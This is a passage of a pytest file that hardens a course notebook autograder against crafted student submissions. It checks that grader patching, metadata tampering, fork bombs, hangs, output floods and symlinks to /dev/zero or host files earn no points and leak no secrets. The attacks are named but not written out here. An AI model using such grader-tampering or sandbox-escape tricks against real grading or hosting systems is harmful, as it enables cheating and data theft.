        "partial": ("02_block_table.ipynb", partial(exercise02)),
        "code_partial": ("02_block_table.ipynb", code_partial(exercise02, places)),
        "code_fake": ("02_block_table.ipynb", code_fake(exercise02)),
        "kernel_misc": ("02_block_table.ipynb", kernel_misc(exercise02, places)),
        "kernel_drip": ("02_block_table.ipynb", kernel_drip(exercise02)),
        "stage6_as_02": ("02_block_table.ipynb", stage6_as_02()),
        "tampered_meta": ("02_block_table.ipynb", tampered_meta(exercise02)),
        "untouched_08": ("08_serve_over_http.ipynb", copy.deepcopy(exercise08)),
        "code_08": ("08_serve_over_http.ipynb", code_08(exercise08, places)),
    }
    out = {}
    for name, (fname, nb) in nbs.items():
        p = subs / name / fname
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text(json.dumps(nb))
        out[name] = p
    return out


HAZARDS = ("hazard_fifo", "hazard_zero", "hazard_hostlink", "hazard_flood")
MAX_PAGE = 64 << 20  # a feedback page's bytes (the flood prints 96 MiB)


def hazard_notebooks(exercise02: dict, source_nb: Path) -> dict:
    return {"hazard_fifo": hazard(exercise02, "fifo", None), "hazard_zero": hazard(exercise02, "link", "/dev/zero"),
            "hazard_hostlink": hazard(exercise02, "link", str(source_nb)),
            "hazard_flood": hazard(exercise02, "flood", None)}


@pytest.fixture(scope="module")
def quick(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("adversary-quick")
    secrets = Secrets()
    solutions = instructor_solutions(tmp / "instructor" / "solutions", secrets)
    source_nb = solutions / "02_block_table.ipynb"
    subs = tmp / "submissions"
    ex02, ex08 = nbk.read(ROOT / "exercises" / "02_block_table.ipynb"), nbk.read(ROOT / "exercises" /
                                                                                  "08_serve_over_http.ipynb")
    before = {p: p.read_bytes() for p in WATCHED + sorted(solutions.glob("*.ipynb"))}
    paths = build_all(tmp, secrets, ex02, ex08, source_nb, subs, {})
    # the hazards, each alone (concurrently with the batch): one that hangs or grows the grader hides nothing else
    runs, threads = {}, []
    for name, nb in hazard_notebooks(ex02, source_nb).items():
        p = tmp / name / "submissions" / name / "02_block_table.ipynb"
        p.parent.mkdir(parents=True)
        p.write_text(json.dumps(nb))
        fb = tmp / name / "feedback"
        threads.append(threading.Thread(target=lambda n=name, p=p, fb=fb: runs.__setitem__(
            n, dict(quick_grade([p], solutions, fb, HAZARD_BOUND_S, jobs=1), feedback=fb))))
    feedback = tmp / "feedback"
    threads.append(threading.Thread(target=lambda: runs.__setitem__(
        "batch", dict(quick_grade(list(paths.values()), solutions, feedback, RUN_BOUND_S), feedback=feedback))))
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    batch = runs["batch"]
    for name, run in runs.items():
        print(f"RUN {name}: rc={run['rc']} wall={run['wall']:.0f}s peak={run['peak'] >> 20}MiB "
              f"stopped={run['stopped']}")
        for r in run["reports"].values():
            print(f"  {Path(r['notebook']).parent.name}: {r['score']:g}/{r['max_score']:g} "
                  f"{coursework.status(r)} {r.get('seconds')}s | {coursework.summary(r)[:300]}")
        if not run["reports"]:
            print("  stderr tail:", run["stderr"][-1500:])
        for name in run["reports"]:  # what the payloads found, as the feedback shows it (for the record)
            text = page({"runs": runs}, name, run=name if name in HAZARDS else "batch")
            for hit in sorted(set(re.findall(r"(?:LEAKED|KERNEL RESULTS|SPIED)[^<]{0,400}", text)))[:4]:
                print(f"    {name} feedback: {hit}")
    return {"tmp": tmp, "secrets": secrets, "paths": paths, "batch": batch, "runs": runs, "feedback": feedback,
            "reports": batch["reports"], "before": before, "source_nb": source_nb}


def page(quick, name: str, run: str = "batch") -> str:
    folder = quick["runs"][run]["feedback"]
    found = sorted(glob.glob(str(folder / f"{name}-*.html")))
    return Path(found[0]).read_text(errors="replace") if found else ""


def report(quick, name: str) -> dict:
    r = quick["reports"].get(name)
    assert r is not None, (f"no report for {name}: the grader run ended with rc={quick['batch']['rc']}, "
                           f"stopped={quick['batch']['stopped']}; stderr: {quick['batch']['stderr'][-2000:]}")
    return r


def rows(r: dict) -> dict:
    return {t["grade_id"]: t for t in r["tests"]}


# ---------------------------------------------------------------- the tests: the batch

def test_the_batch_finished_within_its_bounds(quick):
    b = quick["batch"]
    assert b["stopped"] is None, b["stopped"]
    assert b["wall"] < RUN_BOUND_S and b["peak"] < RSS_CAP
    slow = {n: r.get("seconds") for n, r in quick["reports"].items() if (r.get("seconds") or 0) > GRADING_BOUND_S}
    assert not slow, f"submissions graded in more than {GRADING_BOUND_S} s: {slow}"
    assert set(quick["reports"]) == set(quick["paths"]), sorted(quick["reports"])


def test_baselines_score_as_expected(quick):
    assert report(quick, "untouched")["score"] == 0 and report(quick, "untouched_08")["score"] == 0
    r = rows(report(quick, "partial"))
    assert r["test_block_allocator"]["score"] == 2 and r["test_slot_mapping"]["score"] == 1, r
    assert report(quick, "partial")["score"] == 3


@pytest.mark.parametrize("name, baseline", [("code_partial", "partial"), ("code_fake", "untouched"),
                                            ("code_08", "untouched_08"),
                                            ("kernel_misc", "untouched"), ("kernel_drip", "untouched"),
                                            ("stage6_as_02", "untouched"), ("tampered_meta", "partial")])
def test_no_crafted_submission_gains_a_point(quick, name, baseline):
    crafted, base = report(quick, name), report(quick, baseline)
    gained = {gid: (t["score"], rows(base).get(gid, {}).get("score")) for gid, t in rows(crafted).items()
              if t["score"] > rows(base).get(gid, {}).get("score", 0)}
    assert crafted["score"] <= base["score"] and not gained, (
        f"{name}: {crafted['score']:g} > {baseline} {base['score']:g}; gained (crafted, baseline): {gained}\n"
        + coursework.format_report(crafted))


@pytest.mark.parametrize("name, struck", [
    ("code_partial", ("test_block_tables", "test_gather_kv", "test_paged_attention", "test_serve")),
    ("code_fake", ("test_serve",)), ("code_08", ("test_sse_stream", "test_serve_sse"))])
def test_code_attacks_earn_nothing_where_they_struck(quick, name, struck):
    """Patching the grader inside the sandbox (here hidden from the static scan) is pointless rather than detected:
    the judge draws the cases and computes every expectation outside, so a patched registry, a forged serving run
    or a computed answer earns 0 where it struck. Flagging stays the scan's extra (code_partial's /proc and file
    reads are seen; the obfuscated patches alone need not be), never what the seal rests on."""
    r = report(quick, name)
    assert {gid: rows(r)[gid]["score"] for gid in struck} == {gid: 0 for gid in struck}, coursework.format_report(r)


def test_stage6_notebook_handed_in_as_stage2_is_not_graded_as_stage6(quick):
    r = report(quick, "stage6_as_02")
    assert r["score"] == 0 and coursework.status(r) != "PASS", coursework.format_report(r)
    assert r.get("error") or r.get("stage") == "02", coursework.format_report(r)


def test_tampered_test_cells_are_flagged_not_a_silent_loss(quick):
    r, honest = report(quick, "tampered_meta"), report(quick, "partial")
    assert r["max_score"] == honest["max_score"], coursework.format_report(r)  # the instructor's points
    assert r["score"] == honest["score"] or coursework.status(r) == "FLAGGED", coursework.format_report(r)


def test_no_secret_reaches_a_learner(quick):
    secrets, leaks = quick["secrets"], []
    for name in quick["paths"]:
        r = quick["reports"].get(name, {})
        for label in secrets.found(learner_text(r) if r else ""):
            leaks.append(f"{name} report: {label}")
        for label in secrets.found(page(quick, name), other=name != "untouched"):
            leaks.append(f"{name} feedback: {label}")
        for hit in re.findall(r"(?:READ|LIST)-OK:[^ <\"]+", page(quick, name)):
            leaks.append(f"{name} feedback: the sandbox could {hit}")
    assert not leaks, "\n".join(leaks)


def test_no_script_runs_in_the_feedback(quick):
    found = {name: live_scripts(page(quick, name)) for name in quick["paths"]}
    assert page(quick, "kernel_misc"), "no feedback page for kernel_misc"
    assert not any(found.values()), found


def test_the_feedback_kernel_stays_in_its_sandbox(quick):
    html = page(quick, "kernel_misc")
    results = kernel_results(html)
    assert results, "the kernel's results are not in its feedback (did the cell run?)"
    assert results.get("write outside") != "WRITE-OK" and not (quick["tmp"] / "ESCAPED").exists(), results
    assert results.get("host-writable mounts") == [], \
        f"the feedback run can write host folders (the root grader reads them back): {results['host-writable mounts']}"
    over = {k: v for k, v in results.items() if k.startswith("disk ") and v << 20 >= DISK_PROBE}
    assert not over, f"no disk limit where the feedback run writes (MiB written, it stopped itself at " \
                     f"{DISK_PROBE >> 20}): {over}"
    assert not surviving_sleepers(quick["secrets"]), "the fork bomb's children outlived the grading"
    for name in ("kernel_misc", "kernel_drip"):  # the SIGINT-proof hang and the drip were stopped, and said so
        r = report(quick, name)
        assert any(f["kind"] == "killed" for f in r["findings"]), (name, coursework.summary(r))
    assert all(p.read_bytes() == b for p, b in quick["before"].items()), "the package or the answers changed"


@pytest.mark.parametrize("name", HAZARDS)
def test_files_the_feedback_run_leaves_for_the_grader_cannot_hang_grow_or_leak(quick, name):
    run = quick["runs"][name]
    assert run["stopped"] is None, f"{name}: {run['stopped']}"
    assert run["wall"] < HAZARD_BOUND_S and run["peak"] < RSS_CAP
    r = run["reports"].get(name)
    assert r is not None, run["stderr"][-2000:]
    assert r["score"] == 0 and not (r.get("error") or "").startswith("grading failed"), coursework.format_report(r)
    leaked = quick["secrets"].found(page(quick, name, run=name) + learner_text(r))
    assert not leaked, f"{name}: the grader read a host file into the feedback: {leaked}"
    size = sum(p.stat().st_size for p in run["feedback"].rglob("*") if p.is_file())
    assert size < MAX_PAGE, f"{name}: {size >> 20} MiB of feedback written on the host"


# ---------------------------------------------------------------- without the scanner: the sandbox itself

def test_without_the_scanner_the_sandbox_still_gives_nothing_to_compute_with(tmp_path, monkeypatch):
    """The crafted partial notebook graded with the static scan switched off: the registry patch and stage 5's
    references must earn nothing by themselves (the judge draws the cases; the sandbox holds no reference)."""
    from tinypaged.course.grading import scan, verify

    secrets = Secrets()
    solutions = instructor_solutions(tmp_path / "instructor" / "solutions", secrets)
    ex02 = nbk.read(ROOT / "exercises" / "02_block_table.ipynb")
    places = {"@PATHS@": [], "@DIRS@": []}
    monkeypatch.setattr(scan, "scan_notebook", lambda *a, **k: [])
    if hasattr(verify, "scan_notebook"):
        monkeypatch.setattr(verify, "scan_notebook", lambda *a, **k: [])
    failures = []
    # (notebook, the honest score it is built on, the test cells its attacks aim at)
    for name, nb, honest, struck in (
            ("mallory", code_partial(ex02, places), 3, ("test_block_tables", "test_gather_kv",
                                                        "test_paged_attention", "test_serve")),
            ("faker", code_fake(ex02), 0, ("test_serve",))):
        sub = tmp_path / "subs" / name / "02_block_table.ipynb"
        sub.parent.mkdir(parents=True)
        sub.write_text(json.dumps(nb))
        t0 = time.monotonic()
        r = coursework.grade_notebook(sub, solutions, execute=False, cpu_timeout=10, idle=10, serving_cpu=30)
        print(coursework.format_report(r), f"({time.monotonic() - t0:.0f} s)")
        assert not [f for f in r["findings"] if f["kind"] in ("tamper", "reuse") and f.get("line")], \
            "the scanner could not be switched off: this test proves nothing"
        got = {g: rows(r)[g]["score"] for g in struck}
        if got != dict.fromkeys(struck, 0) or r["score"] > honest:
            failures.append(f"{name}: {r['score']:g} > {honest} (scores where it struck: {got})\n"
                            + coursework.format_report(r))
        if secrets.found(learner_text(r)):
            failures.append(f"{name}: secrets in its report: {secrets.found(learner_text(r))}")
    assert not failures, "\n\n".join(failures)
